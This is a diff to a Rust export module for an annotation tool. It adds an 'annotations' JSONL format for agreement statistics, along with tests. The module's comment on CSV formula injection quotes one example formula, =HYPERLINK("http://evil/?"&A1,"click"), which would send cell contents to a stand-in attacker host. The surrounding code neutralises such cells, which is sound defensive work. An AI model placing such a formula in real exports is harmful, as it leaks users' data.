@@ -1,5 +1,7 @@
 //! Exports: a project's items with every annotation, as JSONL or CSV, produced page by page
-//! so memory stays flat at any size.
+//! so memory stays flat at any size; and the `annotations` format, one
+//! `{"item", "annotator", "label"}` line per annotation, the input of `mirrorset stats
+//! agreement` and `aggregate` (see `annotation_lines` for its rules).
 //!
 //! CSV and formula injection: imported text reaches spreadsheets through the CSV export, and a
 //! cell such as `=HYPERLINK("http://evil/?"&A1,"click")` runs as a formula when the file is
@@ -27,6 +29,8 @@ pub const PAGE_SIZE: i64 = 2000;
 pub enum ExportFormat {
     Jsonl,
     Csv,
+    /// One `{"item", "annotator", "label"}` line per rating, for the statistics commands.
+    Annotations,
 }
 
 impl ExportFormat {
@@ -34,12 +38,13 @@ impl ExportFormat {
         match s {
             "jsonl" => Some(Self::Jsonl),
             "csv" => Some(Self::Csv),
+            "annotations" => Some(Self::Annotations),
             _ => None,
         }
     }
     pub fn content_type(self) -> &'static str {
         match self {
-            Self::Jsonl => "application/x-ndjson",
+            Self::Jsonl | Self::Annotations => "application/x-ndjson",
             Self::Csv => "text/csv; charset=utf-8",
         }
     }
@@ -47,6 +52,7 @@ impl ExportFormat {
         match self {
             Self::Jsonl => "jsonl",
             Self::Csv => "csv",
+            Self::Annotations => "annotations.jsonl",
         }
     }
 }
@@ -148,8 +154,82 @@ fn csv_writer(formulas: Formulas) -> csv::Writer<Vec<u8>> {
     csv::WriterBuilder::new().quote_style(quote).from_writer(Vec::new())
 }
 
+/// What the `annotations` format needs to know of the project: a multi-label annotation
+/// becomes one present/absent line per label of the project.
+#[derive(Clone, Debug, Default, PartialEq, Eq)]
+pub struct LabelSchema {
+    pub multi: bool,
+    /// The project's label names, in its order.
+    pub labels: Vec<String>,
+}
+
+/// The value of a multi-label line: whether the annotator chose the label.
+pub const PRESENT: &str = "present";
+pub const ABSENT: &str = "absent";
+
+/// The `annotations` lines of one page, in item then annotation order.
+///
+/// - `item` is the item's numeric id (`item_id` in the other formats), never its external id:
+///   external ids are optional, and an external id `"7"` and the numeric id 7 of an item
+///   without one would read as the same item (`mirrorset stats` takes `7` and `"7"` alike), so
+///   the statistics would silently merge two items. The external id rides along as `id`
+///   (null when the item has none), which the statistics commands ignore.
+/// - Single-label projects: `label` is the chosen label.
+/// - Multi-label projects: one line per label of the project (and per label an annotation of
+///   the item uses that the project no longer lists, so no answer is lost), with `item`
+///   `"<item id>/<label>"`, `label` `"present"` or `"absent"`, and the label itself as
+///   `for_label`. Each (item, label) is then a unit that every annotator of the item rated
+///   present or absent: the file gives alpha over all such decisions, and the lines of one
+///   `for_label` give that label's one-vs-rest agreement. The item id is digits, so the first
+///   `/` splits the key even when a label name holds one.
+pub fn annotation_lines(page: &ExportPage, schema: &LabelSchema) -> Vec<u8> {
+    let mut out = Vec::with_capacity(page.annotations.len() * 80);
+    let mut write = |line: Value| {
+        out.extend_from_slice(line.to_string().as_bytes());
+        out.push(b'\n');
+    };
+    let mut annotations = page.annotations.iter().peekable();
+    for item in &page.items {
+        let mut mine = Vec::new();
+        while let Some(a) = annotations.next_if(|a| a.item_id <= item.id) {
+            if a.item_id == item.id {
+                mine.push((a, labels_of(a)));
+            }
+        }
+        if !schema.multi {
+            for (a, labels) in &mine {
+                // Validation stores exactly one label per single-label annotation.
+                if let [label] = labels.as_slice() {
+                    write(json!({"item": item.id, "annotator": a.username, "label": label,
+                                 "item_id": item.id, "id": item.external_id}));
+                }
+            }
+            continue;
+        }
+        let mut universe: Vec<&str> = schema.labels.iter().map(String::as_str).collect();
+        for (_, labels) in &mine {
+            for l in labels {
+                if !universe.contains(&l.as_str()) {
+                    universe.push(l);
+                }
+            }
+        }
+        for label in universe {
+            for (a, labels) in &mine {
+                let value = if labels.iter().any(|l| l == label) { PRESENT } else { ABSENT };
+                write(json!({"item": format!("{}/{label}", item.id), "annotator": a.username, "label": value,
+                             "item_id": item.id, "id": item.external_id, "for_label": label}));
+            }
+        }
+    }
+    out
+}
+
 /// Formats one page; the header comes with the first CSV page.
-pub fn format_page(page: &ExportPage, format: ExportFormat, formulas: Formulas, first: bool) -> Vec<u8> {
+pub fn format_page(page: &ExportPage, format: ExportFormat, formulas: Formulas, schema: &LabelSchema, first: bool) -> Vec<u8> {
+    if format == ExportFormat::Annotations {
+        return annotation_lines(page, schema);
+    }
     let mut out = Vec::with_capacity(page.items.len() * 256);
     let mut csv_writer = (format == ExportFormat::Csv).then(|| csv_writer(formulas));
     if let (Some(w), true) = (csv_writer.as_mut(), first) {
@@ -212,6 +292,7 @@ pub fn export_stream(
     project_id: i64,
     format: ExportFormat,
     formulas: Formulas,
+    schema: LabelSchema,
     complete_only: bool,
     cancel: CancellationToken,
 ) -> impl Stream<Item = Result<Bytes, AppError>> + Send + 'static {
@@ -220,9 +301,10 @@ pub fn export_stream(
         after: i64,
         first: bool,
         done: bool,
+        schema: LabelSchema,
         cancel: CancellationToken,
     }
-    let init = State { db, after: 0, first: true, done: false, cancel };
+    let init = State { db, after: 0, first: true, done: false, schema, cancel };
     futures::stream::unfold(init, move |mut st| async move {
         if st.done {
             return None;
@@ -240,7 +322,7 @@ pub fn export_stream(
                 Some((Err(e), st))
             }
             Ok(page) => {
-                let bytes = format_page(&page, format, formulas, st.first);
+                let bytes = format_page(&page, format, formulas, &st.schema, st.first);
                 st.first = false;
                 match page.items.last() {
                     Some(last) if page.items.len() as i64 == PAGE_SIZE => st.after = last.id,
@@ -293,10 +375,10 @@ mod tests {
         let db = Db::connect(&format!("sqlite://{}", dir.path().join("e.db").display())).await.unwrap();
         let cancel = CancellationToken::new();
         // Before the shutdown: an empty project streams to its end without an error.
-        let all: Vec<_> = export_stream(db.clone(), 1, ExportFormat::Jsonl, Formulas::default(), false, cancel.clone()).collect().await;
+        let all: Vec<_> = export_stream(db.clone(), 1, ExportFormat::Jsonl, Formulas::default(), LabelSchema::default(), false, cancel.clone()).collect().await;
         assert!(all.iter().all(|r| r.is_ok()));
         cancel.cancel();
-        let mut stream = Box::pin(export_stream(db, 1, ExportFormat::Jsonl, Formulas::default(), false, cancel));
+        let mut stream = Box::pin(export_stream(db, 1, ExportFormat::Jsonl, Formulas::default(), LabelSchema::default(), false, cancel));
         assert!(matches!(stream.next().await, Some(Err(AppError::Unavailable { .. }))));
         assert!(stream.next().await.is_none());
     }
@@ -304,7 +386,7 @@ mod tests {
     #[test]
     fn jsonl_lists_each_items_annotations() {
         let page = ExportPage { items: vec![item(1), item(2)], annotations: vec![ann(1, "ann"), ann(1, "bob")] };
-        let text = String::from_utf8(format_page(&page, ExportFormat::Jsonl, Formulas::Neutralise, true)).unwrap();
+        let text = String::from_utf8(format_page(&page, ExportFormat::Jsonl, Formulas::Neutralise, &LabelSchema::default(), true)).unwrap();
         let lines: Vec<Value> = text.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
         assert_eq!(lines.len(), 2);
         assert_eq!(lines[0]["annotations"].as_array().unwrap().len(), 2);
@@ -317,7 +399,7 @@ mod tests {
     #[test]
     fn csv_has_a_row_per_annotation_and_quotes_text() {
         let page = ExportPage { items: vec![item(1), item(2)], annotations: vec![ann(1, "ann"), ann(1, "bob")] };
-        let bytes = format_page(&page, ExportFormat::Csv, Formulas::Neutralise, true);
+        let bytes = format_page(&page, ExportFormat::Csv, Formulas::Neutralise, &LabelSchema::default(), true);
         let mut r = csv::Reader::from_reader(bytes.as_slice());
         assert_eq!(r.headers().unwrap().len(), CSV_HEADER.len());
         let rows: Vec<csv::StringRecord> = r.records().map(|r| r.unwrap()).collect();
@@ -361,7 +443,7 @@ mod tests {
         let read = |bytes: Vec<u8>| -> Vec<csv::StringRecord> {
             csv::Reader::from_reader(bytes.as_slice()).records().map(|r| r.unwrap()).collect()
         };
-        let safe = format_page(&page, ExportFormat::Csv, Formulas::Neutralise, true);
+        let safe = format_page(&page, ExportFormat::Csv, Formulas::Neutralise, &LabelSchema::default(), true);
         let rows = read(safe.clone());
         assert_eq!(rows.iter().map(|r| r[3].to_string()).collect::<Vec<_>>(), ["'=1+1", "'-3", "fine", "a;=1"]);
         assert_eq!(&rows[0][11], "'@bob");
@@ -370,7 +452,7 @@ mod tests {
         assert!(text.starts_with("\"item_id\",\"id\","), "{text}");
         assert!(text.contains(",\"a;=1\","), "{text}");
 
-        let raw = read(format_page(&page, ExportFormat::Csv, Formulas::Keep, true));
+        let raw = read(format_page(&page, ExportFormat::Csv, Formulas::Keep, &LabelSchema::default(), true));
         assert_eq!(raw.iter().map(|r| r[3].to_string()).collect::<Vec<_>>(), texts);
         assert_eq!(&raw[0][11], "@bob");
     }
@@ -378,9 +460,76 @@ mod tests {
     #[test]
     fn jsonl_is_never_neutralised() {
         let page = ExportPage { items: vec![with_text(1, "=1+1")], annotations: vec![] };
-        let text = String::from_utf8(format_page(&page, ExportFormat::Jsonl, Formulas::Neutralise, true)).unwrap();
+        let text = String::from_utf8(format_page(&page, ExportFormat::Jsonl, Formulas::Neutralise, &LabelSchema::default(), true)).unwrap();
         let v: Value = serde_json::from_str(text.trim()).unwrap();
         assert_eq!(v["text"], "=1+1");
+    }
+
+    fn lines(bytes: Vec<u8>) -> Vec<Value> {
+        String::from_utf8(bytes).unwrap().lines().map(|l| serde_json::from_str(l).unwrap()).collect()
+    }
+
+    #[test]
+    fn annotations_single_label_one_line_per_annotation_keyed_by_item_id() {
+        let one = |item_id, who: &str, label: &str| ExportAnnotation {
+            labels: format!("[\"{label}\"]"),
+            ..ann(item_id, who)
+        };
+        let page = ExportPage {
+            items: vec![item(1), ExportItem { external_id: None, ..item(2) }, item(3)],
+            annotations: vec![one(1, "ann", "pos"), one(1, "bob", "neg"), one(2, "ann", "pos")],
+        };
+        let schema = LabelSchema { multi: false, labels: vec!["pos".into(), "neg".into()] };
+        let got = lines(format_page(&page, ExportFormat::Annotations, Formulas::Neutralise, &schema, true));
+        assert_eq!(
+            got,
+            [
+                json!({"item": 1, "annotator": "ann", "label": "pos", "item_id": 1, "id": "x1"}),
+                json!({"item": 1, "annotator": "bob", "label": "neg", "item_id": 1, "id": "x1"}),
+                json!({"item": 2, "annotator": "ann", "label": "pos", "item_id": 2, "id": null}),
+            ]
+        );
+    }
+
+    #[test]
+    fn annotations_multi_label_one_present_or_absent_line_per_label() {
+        // ann chose pos and neg, bob chose nothing of the schema but a label since dropped.
+        let page = ExportPage {
+            items: vec![item(4)],
+            annotations: vec![ann(4, "ann"), ExportAnnotation { labels: r#"["old/x"]"#.into(), ..ann(4, "bob") }],
+        };
+        let schema = LabelSchema { multi: true, labels: vec!["pos".into(), "neg".into(), "other".into()] };
+        let got = lines(annotation_lines(&page, &schema));
+        let brief: Vec<(String, String, String, String)> = got
+            .iter()
+            .map(|l| {
+                assert_eq!(l["item_id"], 4);
+                assert_eq!(l["id"], "x4");
+                let s = |k: &str| l[k].as_str().unwrap().to_string();
+                (s("item"), s("annotator"), s("label"), s("for_label"))
+            })
+            .collect();
+        let t = |i: &str, a: &str, v: &str, f: &str| (i.to_string(), a.to_string(), v.to_string(), f.to_string());
+        assert_eq!(
+            brief,
+            [
+                t("4/pos", "ann", "present", "pos"),
+                t("4/pos", "bob", "absent", "pos"),
+                t("4/neg", "ann", "present", "neg"),
+                t("4/neg", "bob", "absent", "neg"),
+                t("4/other", "ann", "absent", "other"),
+                t("4/other", "bob", "absent", "other"),
+                t("4/old/x", "ann", "absent", "old/x"),
+                t("4/old/x", "bob", "present", "old/x"),
+            ]
+        );
+    }
+
+    #[test]
+    fn annotations_format_name() {
+        assert_eq!(ExportFormat::parse("annotations"), Some(ExportFormat::Annotations));
+        assert_eq!(ExportFormat::Annotations.content_type(), "application/x-ndjson");
+        assert_eq!(ExportFormat::Annotations.extension(), "annotations.jsonl");
     }
 
     #[test]
